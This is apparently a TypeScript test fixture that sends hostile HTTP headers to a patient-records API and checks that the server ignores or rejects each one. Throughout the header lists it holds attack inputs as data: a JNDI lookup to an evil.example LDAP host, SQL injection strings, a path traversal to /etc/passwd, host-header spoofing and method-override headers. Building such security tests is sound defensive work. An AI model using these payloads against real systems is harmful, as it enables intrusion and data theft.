import { each, type Hostile, PATIENT } from "./hostile.ts";

const patient = "GET /api/patients/{patient}/";

/** Headers that must have no effect. */
const ignored: [name: string, value: string, why: string][] = [
  ["X-HTTP-Method-Override", "DELETE", "a GET would delete"],
  ["X-Method-Override", "DELETE", "a GET would delete"],
  ["X-HTTP-Method", "PUT", "a GET would change"],
  ["X-Forwarded-For", "127.0.0.1", "the audit log would have another address"],
  ["X-Real-IP", "127.0.0.1", "the audit log would have another address"],
  ["Forwarded", 'for="_gazonk";host=evil.example', "the audit log would have another address"],
  [
    "CF-Connecting-IP",
    "'; DROP TABLE patients; --",
    "only Cloudflare sets it, and it must not be read as SQL",
  ],
  ["CF-Connecting-IP", "x".repeat(10_000), "only Cloudflare sets it"],
  ["Host", "evil.example", "a link would lead there"],
  ["X-Forwarded-Host", "evil.example", "a link would lead there"],
  ["X-Original-URL", "/api/audit/", "another route would be asked for"],
  ["X-Rewrite-URL", "/api/audit/", "another route would be asked for"],
  ["X-Request-Id", "00000000-0000-4000-8000-000000000000", "two requests would be one in the log"],
  ["X-Forwarded-Proto", "http", "a link would lead there"],
  ["Origin", "null", "a sandboxed page has it, and any page can create one"],
  ["Origin", "https://evil.example", "a page of another origin would read the response"],
  ["Range", "bytes=0-0", "part of a response would be taken for all of it"],
  ["Range", "bytes=9999999-,0-0,1-1", "one request would cause many responses"],
  ["Accept", ";;;,,q=", "it is malformed"],
  ["Accept", "text/html,*/*;q=0", "it accepts nothing"],
  ["Accept-Encoding", "gzip;q=nan, \\, ,", "it is malformed"],
  ["Accept-Language", "../../../etc/passwd", "a file would be read"],
  ["Cookie", `token={token}; ${"a=b; ".repeat(2_000)}`, "no cookie is read"],
  ["Content-Encoding", "gzip", "there is nothing to unpack"],
  ["Content-Length", "99999", "there is no body"],
  ["Expect", "100-continue", "there is nothing to wait for"],
  ["Upgrade", "websocket", "there is no WebSocket"],
  ["If-Modified-Since", "Thu, 01 Jan 2099 00:00:00 GMT", "the response would be empty"],
  ["If-Unmodified-Since", "garbage", "it is not supported"],
  ["Max-Forwards", "0", "the response would be empty"],
  ["Sec-Fetch-Site", "cross-site", "a browser sends it for a page of another origin"],
  ["User-Agent", "\u0024{jndi:ldap://evil.example/a} %s%n <script>", "a log viewer would run it"],
  ["Referer", "https://evil.example/?{token}", "a log would store it"],
];

const garbage = ['"', "1", "W/", '"1" "2"', '"1', "*,*", '*, "1"', '""", "1"', "null", "", ",".repeat(5_000)];

export const hostileHeaders: Hostile[] = [
  ...each(ignored, ([name, value, why]) => ({
    name: `${name}: ${value.slice(0, 40)}`,
    why,
    request: patient,
    headers: { [name]: value },
    answers: [200],
  })),
  ...each(garbage, (value) => ({
    name: `If-None-Match: ${value.slice(0, 40)}`,
    why: "a malformed ETag must not match",
    request: patient,
    headers: { "If-None-Match": value },
    answers: [400],
  })),
  ...each(garbage, (value) => ({
    name: `If-Match: ${value.slice(0, 40)}`,
    why: "a malformed precondition must not allow a change",
    request: "PATCH /api/patients/{patient}/",
    headers: { "If-Match": value },
    body: '{"age": 37}',
    answers: [400],
  })),
  ...each(
    ['"0"', '"-1"', '"1e0"', '"99999999999999999999"', '"1\'--"', '"\\"', `${'"x", '.repeat(2_000)}"y"`],
    (value) => ({
      name: `If-Match: ${value.slice(0, 40)}`,
      why: "it is an ETag, but not that of the patient's version",
      request: "PATCH /api/patients/{patient}/",
      headers: { "If-Match": value },
      body: '{"age": 37}',
      answers: [412],
    }),
  ),
  ...each(["", " ", "a b", "x".repeat(256), "a\tb"], (key) => ({
    name: `Idempotency-Key: ${JSON.stringify(key).slice(0, 40)}`,
    why: "a malformed key must not allow a duplicate",
    request: "POST /api/patients/",
    headers: { "Idempotency-Key": key },
    body: `{${PATIENT}}`,
    answers: [400],
  })),
  ...each(
    [
      "'; DROP TABLE idempotency_keys; --".replaceAll(" ", "/**/"),
      "../../x",
      "{}",
      "__proto__",
      "%00",
      "null",
    ],
    (key) => ({
      name: `Idempotency-Key: ${key}`,
      why: "it is a valid key",
      request: "POST /api/patients/",
      headers: { "Idempotency-Key": key },
      body: `{${PATIENT}}`,
      answers: [201],
    }),
  ),
  ...each(["99999999", "-1", "abc", "0", "1e3", "5, 5", ""], (length) => ({
    name: `a Content-Length of ${JSON.stringify(length)} that is wrong`,
    why: "the body would be read by this length, or beyond its limit",
    request: "POST /api/patients/",
    headers: { "Content-Length": length },
    body: `{${PATIENT}}`,
    answers: [201, 400, 413],
  })),
  ...each(
    [";;;,,q=", "application/x-nothing", "*/*;q=0", "text/csv;q=x", "*", "a".repeat(20_000)],
    (accept) => ({
      name: `an export with Accept: ${accept.slice(0, 40)}`,
      why: "a media type is either supported or refused",
      request: "GET /api/patients/export/",
      headers: { Accept: accept },
      answers: [200, 406],
    }),
  ),
];
